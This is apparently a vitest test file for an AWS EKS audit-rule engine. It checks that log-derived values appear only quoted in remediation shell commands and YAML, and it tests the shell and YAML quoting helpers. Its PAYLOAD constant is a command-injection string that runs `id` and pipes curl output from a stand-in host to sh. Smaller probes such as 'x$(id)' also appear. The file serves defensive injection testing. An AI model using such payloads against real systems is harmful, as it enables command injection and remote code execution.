import { describe, expect, it } from 'vitest';
import type { ObservationGroup } from '../../lambda/model/rule';
import { shellArg, yamlScalar } from '../../lambda/model/quote';
import { RULES } from '../../lambda/rules/registry';

/**
 * Every value a rule can interpolate (subject, facts, tally keys, the cluster) set to a string that runs a
 * command when pasted into a shell unquoted. describe() must put it into commands and snippets only quoted.
 */
const PAYLOAD = "arn:aws:iam::111122223333:role/x`id`$(curl${IFS}evil|sh)'\"";
const SUBJECT_KEYS = ['node', 'username', 'arn', 'resource', 'object', 'flag', 'field', 'value', 'sourceIP', 'path', 'kind', 'writer'];
const FACT_KEYS = [
  'arn', 'authorizationConfigFile', 'detail', 'errors', 'evidence', 'groups', 'half', 'kind', 'list', 'masters',
  'nameLooksLikeNodeRole', 'nodeRole', 'nodes', 'notMapped', 'rbacLine', 'reason', 'recognized', 'resources',
  'seenIn', 'signer', 'source', 'sourceIP', 'threshold', 'thresholds', 'userAgent', 'username', 'writerArn', 'value',
];

function hostileGroup(value: string, fact: (key: string) => string): ObservationGroup {
  return {
    subject: Object.fromEntries(SUBJECT_KEYS.map((k) => [k, value])),
    count: 3, firstSeen: '2026-11-27T10:00:00Z', lastSeen: '2026-11-27T10:05:00Z',
    tally: { [value]: 2, get: 1, [`writer:${value}`]: 1 },
    facts: Object.fromEntries(FACT_KEYS.map((k) => [k, fact(k)])),
    evidence: [], cluster: value,
  };
}

/**
 * The commands and snippets in a remediation: from where one starts (`aws `, `kubectl `, `eksctl `, a YAML
 * `rolearn:` or `- {`, a kube-apiserver flag) to the end of its sentence. The payload holds no ". " or "; ".
 */
function commands(text: string): string[] {
  const starts = /aws (?:eks|iam|sts) |kubectl |eksctl |rolearn: |- \{|kube-apiserver with |--[a-z-]+=/g;
  const out: string[] = [];
  for (const m of text.matchAll(starts)) {
    const rest = text.slice(m.index);
    const end = rest.search(/\. |; |\.$/);
    out.push(end < 0 ? rest : rest.slice(0, end));
  }
  return out;
}

/** Single-quoted shell words (with '\\'' joins) and double-quoted YAML/JSON scalars: inert when pasted. */
const QUOTED = /'[^']*'(?:\\''[^']*')*|"(?:[^"\\]|\\.)*"/g;

/** A command that still holds the payload once its quoted parts are taken out. */
function unquoted(text: string): string | undefined {
  for (const command of commands(text)) {
    const rest = command.replace(QUOTED, '<quoted>');
    if (rest.includes('`id`') || rest.includes('$(curl')) return command;
  }
  return undefined;
}

describe('describe() of every rule over hostile values', () => {
  it.each(RULES.map((r) => [r.id, r] as const))('%s: a log value goes into commands and YAML snippets only quoted', (_id, rule) => {
    // Prepare: facts as the rules write them ("[a, b]" lists, numbers) and as a crafted input could make them.
    const groups = [
      hostileGroup(PAYLOAD, (k) => (k === 'groups' || k === 'list' ? `[${PAYLOAD}]` : PAYLOAD)),
      hostileGroup(PAYLOAD, (k) => (k === 'groups' || k === 'list' ? `[system:nodes, ${PAYLOAD}]` : PAYLOAD)),
    ];
    for (const g of groups) {
      // Act
      const text = rule.describe(g);

      // Assess
      expect(unquoted(text.remediation)).toBeUndefined();
    }
  });
});

describe('quoting helpers', () => {
  it('shellArg: plain words as they are, anything else in single quotes with embedded quotes escaped', () => {
    expect(shellArg('arn:aws:iam::111122223333:role/eks-ng-NodeInstanceRole')).toBe('arn:aws:iam::111122223333:role/eks-ng-NodeInstanceRole');
    expect(shellArg('x$(id)')).toBe("'x$(id)'");
    expect(shellArg("it's")).toBe("'it'\\''s'");
    expect(shellArg('-rf')).toBe("'-rf'");
    expect(shellArg('')).toBe("''");
  });
  it('yamlScalar: plain names as they are, anything YAML would read otherwise double-quoted', () => {
    expect(yamlScalar('arn:aws:iam::111122223333:role/x')).toBe('arn:aws:iam::111122223333:role/x');
    expect(yamlScalar('system:nodes')).toBe('system:nodes');
    for (const v of ['yes', 'null', '0x1f', '1e3', 'a: b', '{x}', '- x', '#c', 'x:']) expect(yamlScalar(v)).toBe(JSON.stringify(v));
  });
});
